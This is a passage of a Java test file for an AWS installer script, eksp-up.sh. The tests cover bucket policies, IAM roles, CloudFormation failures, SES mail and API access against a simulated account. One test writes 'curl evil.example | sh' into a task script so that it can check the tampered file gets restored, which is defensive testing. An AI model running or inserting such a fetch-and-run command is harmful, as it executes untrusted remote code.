    scripts.run("eksp-up.sh").exits(0).says("uploaded the task scripts");

    assertThat(account.parameter("TaskScripts")).isNotEqualTo(before);
    assertThat(account.file("buckets/" + SERVICE_BUCKET + "/objects/" + before + "/prepare.sh"))
        .exists();
  }

  @ParameterizedTest
  @ValueSource(strings = {"changed", "gone", "another"})
  void taskScriptsThatSomebodyChangedAreRestored(String how) throws Exception {
    scripts.run("eksp-up.sh").exits(0);
    Path there =
        account.file(
            "buckets/%s/objects/%s".formatted(SERVICE_BUCKET, account.parameter("TaskScripts")));
    switch (how) {
      case "changed" ->
          Files.writeString(there.resolve("ownership.sh"), "curl evil.example | sh\n");
      case "gone" -> Files.delete(there.resolve("ownership.sh"));
      default -> Files.writeString(there.resolve("more.sh"), "evil\n");
    }

    Scripts.Outcome outcome = scripts.run("eksp-up.sh").exits(0).says("is up to date at ");

    if (how.equals("gone")) {
      outcome.says("uploaded the task scripts").doesNotSay("had been changed");
    } else {
      outcome.says("had been changed", "are restored");
    }
    assertThat(names(there)).isEqualTo(names(account.root().resolve("svc/task")));
    assertThat(there.resolve("ownership.sh"))
        .hasSameTextualContentAs(account.root().resolve("svc/task/ownership.sh"));
    account.forgetCalls();
    scripts.run("eksp-up.sh").exits(0).doesNotSay("task scripts");
  }

  @Test
  void whatIsSetUpOnABucketStays() throws Exception {
    account
        .object(CLUSTER_BUCKET, "x", "")
        .write(
            "buckets/" + CLUSTER_BUCKET + "/get-bucket-policy",
            "{\"Policy\": \"{\\\"Version\\\": \\\"2012-10-17\\\", \\\"Id\\\": \\\"mine\\\", \\\"Statement\\\":"
                + " {\\\"Sid\\\": \\\"Mine\\\", \\\"Effect\\\": \\\"Allow\\\"}}\"}")
        .write(
            "buckets/" + CLUSTER_BUCKET + "/get-bucket-lifecycle-configuration",
            "{\"Rules\": [{\"ID\": \"mine\", \"Prefix\": \"logs/\", \"Status\": \"Enabled\","
                + " \"Expiration\": {\"Days\": 1}}]}")
        .write(
            "buckets/" + CLUSTER_BUCKET + "/get-bucket-encryption",
            "{\"ServerSideEncryptionConfiguration\": {\"Rules\": [{\"ApplyServerSideEncryptionByDefault\":"
                + " {\"SSEAlgorithm\": \"aws:kms\"}}]}}");

    scripts
        .run("eksp-up.sh")
        .exits(0)
        .says(
            "is encrypted with a KMS key",
            CLUSTER_BUCKET + " is now private, versioned, with expiry rules");

    assertThat(Files.readString(account.file("buckets/" + CLUSTER_BUCKET + "/get-bucket-policy")))
        .contains("mine", "Mine", "EKSphemeralTlsOnly", "aws:SecureTransport");
    String rules =
        Files.readString(
            account.file("buckets/" + CLUSTER_BUCKET + "/get-bucket-lifecycle-configuration"));
    assertThat(rules.replaceAll("\\s", ""))
        .contains(
            "{\"ID\":\"mine\",\"Status\":\"Enabled\",\"Expiration\":{\"Days\":1},\"Filter\":{\"Prefix\":\"logs/\"}}",
            "\"eksphemeral-old-versions\"",
            "\"eksphemeral-gone\"",
            "\"eksphemeral-tasks\"");
    assertThat(account.calls())
        .noneMatch(call -> call.contains("put-bucket-encryption --bucket " + CLUSTER_BUCKET));
    assertThat(
            Files.readString(
                account.file("buckets/" + SERVICE_BUCKET + "/get-bucket-lifecycle-configuration")))
        .as("only records expire by themselves")
        .doesNotContain("gone/", "tasks/");
  }

  /** S3 takes these documents as a whole: what is not written back is lost. */
  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "get-bucket-lifecycle-configuration | {'Rules':[],'TransitionDefaultMinimumObjectSize':'varies_by_storage_class'}"
            + " | varies_by_storage_class",
        "get-bucket-versioning | {'Status':'Suspended','MFADelete':'Disabled'} | MFADelete",
        "get-public-access-block | {'PublicAccessBlockConfiguration':{'BlockPublicAcls':true,'More':true}} | More",
        "get-bucket-encryption | {'ServerSideEncryptionConfiguration':{'Rules':[],'More':true}} | More",
        "get-bucket-policy | {'Policy':'{\\'Id\\':\\'mine\\',\\'Statement\\':[]}'} | mine",
      })
  void whatStandsBesideWhatIsChangedIsKept(String document, String before, String kept)
      throws Exception {
    String file = "buckets/" + CLUSTER_BUCKET + "/" + document;
    account.object(CLUSTER_BUCKET, "x", "").write(file, before.replace('\'', '"') + "\n");

    scripts.run("eksp-up.sh").exits(0).says("the bucket " + CLUSTER_BUCKET + " is now ");

    assertThat(account.file(file)).content().contains(kept);
    assertThat(Files.readString(account.file(file)).strip())
        .as("it was changed")
        .isNotEqualTo(before.replace('\'', '"'));
    account.forgetCalls();
    scripts.run("eksp-up.sh").exits(0).doesNotSay(" is now ");
  }

  @Test
  void onlyMissingRolesAreMade() throws Exception {
    account.write(
        "roles", ROLES.replace("eks.amazonaws.com\n", "").replace("spot.amazonaws.com\n", ""));
    account.refuses(
        "iam create-service-linked-role --aws-service-name spot*",
        "InvalidInput",
        "Service role name AWSServiceRoleForEC2Spot has been taken in this account");

    scripts.run("eksp-up.sh").exits(0).says("created the service-linked roles of eks\n");
  }

  @Test
  void aRoleThatMayNotBeMadeIsSaid() throws Exception {
    account.refuses("iam create-service-linked-role*", "AccessDenied", "alice is not authorized");

    scripts
        .run("eksp-up.sh")
        .exits(1)
        .says(
            "the service-linked role of ecs cannot be created: alice is not authorized",
            "permissions");
    assertThat(account.calls()).noneMatch(call -> call.startsWith("cloudformation deploy"));
  }

  @Test
  void tooFewVpcsAreAWarning() throws Exception {
    account.answers("service-quotas *", "{\"Quota\": {\"Value\": 5.0}}");

    scripts
        .run("eksp-up.sh")
        .exits(0)
        .says(
            "of the 5 that region us-east-2 may have, 2 are in use",
            "room for 3 clusters at a time",
            "request-service-quota-increase",
            "--desired-value 12");
  }

  @Test
  void vpcsOfClustersAreNotCountedTwice() throws Exception {
    account
        .write(
            "vpcs.json",
            """
            {"Vpcs": [{"VpcId": "vpc-1", "IsDefault": true},
              {"VpcId": "vpc-2", "Tags": [{"Key": "eksphemeral:id", "Value": "x"}]}]}
            """)
        .answers("service-quotas *", "{\"Quota\": {\"Value\": 11.0}}");

    scripts.run("eksp-up.sh").exits(0).doesNotSay("each cluster needs a VPC");
  }

  @Test
  void theLeftOversOfAFailedInstallationAreRemovedFirst() throws Exception {
    account.stack("ROLLBACK_COMPLETE", "Subnets=subnet-gone", "ClusterBucket=another-one");

    scripts
        .run("eksp-up.sh")
        .exits(0)
        .says("which has no resources", "the control plane is up at ");

    assertThat(account.changes())
        .containsSubsequence(
            "cloudformation delete-stack --stack-name arn:aws:cloudformation:us-east-2:123456789012:stack/eksp/1 --output json",
            theCall("cloudformation deploy"));
    assertThat(account.parameter("Subnets")).isEqualTo("subnet-a1,subnet-b1");
  }

  @Test
  void whatGoesOnAlreadyIsWaitedFor() throws Exception {
    account.stack("UPDATE_IN_PROGRESS");
    account.on(
        "cloudformation describe-stack-events*",
        """
        echo '{"StackEvents": []}'
        [[ -e $ACCOUNT/asked ]] || exec touch "$ACCOUNT/asked"
        jq '.Stacks[0].StackStatus = "UPDATE_COMPLETE"' "$ACCOUNT/stack.json" >"$ACCOUNT/stack.new"
        mv "$ACCOUNT/stack.new" "$ACCOUNT/stack.json"
        """);

    scripts.run("eksp-up.sh").exits(0).says("waiting for CloudFormation, UPDATE_IN_PROGRESS");
  }

  @Test
  void aDeployThatFailsSaysWhy() throws Exception {
    account
        .stack("UPDATE_COMPLETE")
        .object(CLUSTER_BUCKET, "x", "")
        .object(SERVICE_BUCKET, "x", "");
    account.write(
        "events.json",
        "{\"StackEvents\": [{\"EventId\": \"old\", \"LogicalResourceId\": \"Old\","
            + " \"ResourceType\": \"X\", \"ResourceStatus\": \"CREATE_FAILED\", \"ResourceStatusReason\": \"long ago\"}]}");
    account.on(
        "cloudformation deploy*",
        """
        cat >"$ACCOUNT/events.json" <<'END'
        {"StackEvents": [
          {"EventId": "5", "LogicalResourceId": "eksp", "ResourceType": "AWS::CloudFormation::Stack", "ResourceStatus": "UPDATE_ROLLBACK_COMPLETE"},
          {"EventId": "4", "LogicalResourceId": "eksp", "ResourceType": "AWS::CloudFormation::Stack", "ResourceStatus": "UPDATE_FAILED", "ResourceStatusReason": "The following resource(s) failed"},
          {"EventId": "3", "LogicalResourceId": "Other", "ResourceType": "AWS::SNS::Topic", "ResourceStatus": "UPDATE_FAILED", "ResourceStatusReason": "Resource update cancelled"},
          {"EventId": "2", "LogicalResourceId": "StatusFunc", "ResourceType": "AWS::Lambda::Function", "ResourceStatus": "UPDATE_FAILED", "ResourceStatusReason": "no such\\u001b[2J runtime"},
          {"EventId": "old", "LogicalResourceId": "Old", "ResourceType": "X", "ResourceStatus": "CREATE_FAILED", "ResourceStatusReason": "long ago"}]}
        END
        jq '.Stacks[0].StackStatus = "UPDATE_ROLLBACK_COMPLETE"' "$ACCOUNT/stack.json" >"$ACCOUNT/stack.new"
        mv "$ACCOUNT/stack.new" "$ACCOUNT/stack.json"
        echo 'Failed to create/update the stack.' >&2
        exit 255
        """);

    scripts
        .run("eksp-up.sh")
        .exits(1)
        .prints("")
        .says(
            "EKSphemeral could not be installed:\n  - StatusFunc (AWS::Lambda::Function): no such [2J runtime\n",
            "everything was rolled back to what it was before",
            "describe-stack-events --region us-east-2 --stack-name eksp")
        .doesNotSay("long ago")
        .doesNotSay("cancelled")
        .doesNotSay("The following");
  }

  @Test
  void aDeployThatNeverBeginsSaysWhy() throws Exception {
    account.on(
        "cloudformation deploy*",
        """
        echo 'Waiting for changeset to be created..'
        echo 'Failed to create the changeset: Waiter ChangeSetCreateComplete failed: Waiter encountered a terminal failure state Status: FAILED. Reason: Parameters: [X] must have values' >&2
        exit 255
        """);

    scripts
        .run("eksp-up.sh")
        .exits(1)
        .says(
            "EKSphemeral could not be installed: Parameters: [X] must have values",
            "no stack was created");
  }

  @Test
  void codeThatCannotBePackagedIsSaid() throws Exception {
    account.refuses("cloudformation package*", "AccessDenied", "you may not write there");

    scripts.run("eksp-up.sh").exits(1).says("the code cannot be packaged: you may not write there");
  }

  @Test
  void itBuildsWhatIsMissing() throws Exception {
    Path jar = account.root().resolve("svc/target/eksphemeral-lambda.jar");
    Files.delete(jar);
    Path build = account.root().resolve("mvnw");
    account.program(build, "#!/bin/sh\necho no compiler\nexit 1\n");

    scripts.run("eksp-up.sh").exits(1).says("building EKSphemeral failed", "no compiler");

    account.program(build, "#!/bin/sh\necho \"$*\" >\"$ACCOUNT/build\"\necho jar >'" + jar + "'\n");
    scripts.run("eksp-up.sh").exits(0);
    assertThat(account.file("build")).hasContent("-q -DskipTests package");
  }

  @Test
  void interruptedItSaysThatTheDeployGoesOn() throws Exception {
    account.on(
        "cloudformation deploy*",
        "until [[ -e $ACCOUNT/enough || ! -d $ACCOUNT ]]; do \"$ACCOUNT/sleep\" 0.05; done");
    Files.createSymbolicLink(account.file("sleep"), Scripts.onPath("sleep"));
    Scripts.Running running = scripts.start("", "eksp-up.sh");
    running.untilItSays("installing EKSphemeral");

    running.process().destroy();

    running
        .outcome()
        .exits(130)
        .says("CloudFormation continues", "describe-stacks", "eksp-up.sh\n");
    account.write("enough", "");
  }

  // --- mail ---

  @Test
  void anAddressIsVerified() throws Exception {
    scripts
        .run("eksp-up.sh", "--notify", "me@corp.io")
        .exits(0)
        .says(
            "no mails are sent until you click the link in the mail that AWS is sending to me@corp.io")
        .doesNotSay("no mails are sent:");

    assertThat(account.calls())
        .contains("ses verify-email-identity --email-address me@corp.io --output json");
  }

  @ParameterizedTest
  @CsvSource({"me@corp.io, Pending, true", "me@corp.io, Success, false", "corp.io, Success, false"})
  void anAddressIsNotVerifiedTwice(String identity, String status, boolean waiting)
      throws Exception {
    account.write(
        "identities.json",
        "{\"VerificationAttributes\": {\"%s\": {\"VerificationStatus\": \"%s\"}}}"
            .formatted(identity, status));

    Scripts.Outcome outcome = scripts.run("eksp-up.sh", "--notify", "me@corp.io").exits(0);

    assertThat(outcome.err().contains("no mails are sent")).isEqualTo(waiting);
    assertThat(account.calls()).noneMatch(call -> call.startsWith("ses verify"));
  }

  @Test
  void theSandboxIsSaid() throws Exception {
    account.answers("sesv2 get-account*", "{\"ProductionAccessEnabled\": false}");

    scripts.run("eksp-up.sh", "--notify", "me@corp.io").exits(0).says("SES is in its sandbox");
  }

  @Test
  void aRegionWithoutMailIsNoFailure() throws Exception {
    account.fails("ses *", "Could not connect to the endpoint URL");

    scripts.run("eksp-up.sh", "--notify", "me@corp.io").exits(0).says("whether SES may send mails");
  }

  // --- the API ---

  @Test
  void anApiThatRefusesIsNotCalledUp() throws Exception {
    account.api().forgets(Account.KEY);

    scripts
        .run("eksp-up.sh")
        .exits(1)
        .says(
            "not allowed: Forbidden",
            "arn:aws:iam::123456789012:user/alice",
            "execute-api:Invoke",
            "arn:aws:execute-api:us-east-2:123456789012:abc123/*")
        .doesNotSay("the control plane is up");
  }

  @Test
  void anApiThatIsJustBeingMadeIsWaitedFor() throws Exception {
    SignedApi api = new SignedApi();
    account.write("api", api.endpoint());
    try (api) {
      api.answers(404, "{\"message\":\"Not Found\"}")
          .answers(500, "{\"message\":\"x\"}")
          .answers(200, "[]");

      scripts
          .run("eksp-up.sh")
          .exits(0)
          .says("waiting for the API to respond", "is up at " + api.endpoint());
    }
  }

  @Test
  void versionsThatAreNotKnownAreNoFailure() throws Exception {
    account.fails(
        "eks describe-cluster-versions*",
        "aws: error: argument operation: Invalid choice, valid choices are:");

    scripts.run("eksp-up.sh").exits(0).says("cannot list the versions of EKS");
  }

  private Scripts.Outcome refused(String... words) throws Exception {
    Scripts.Outcome outcome =
        scripts.run("eksp-up.sh").exits(1).prints("").says("nothing was changed").says(words);
    assertThat(account.changes()).isEmpty();
    assertThat(account.file("buckets/" + SERVICE_BUCKET + "/get-bucket-policy")).doesNotExist();
    return outcome;
  }

  private String theCall(String beginning) throws IOException {
    return account.calls().stream()
        .filter(call -> call.startsWith(beginning))
        .findFirst()
        .orElseThrow();
  }

  private static Set<String> names(Path folder) throws IOException {
    try (var files = Files.list(folder)) {
      return files
          .map(file -> file.getFileName().toString())
          .filter(name -> name.matches(".*\\.(sh|jq)"))
          .collect(java.util.stream.Collectors.toSet());
    }
  }
}
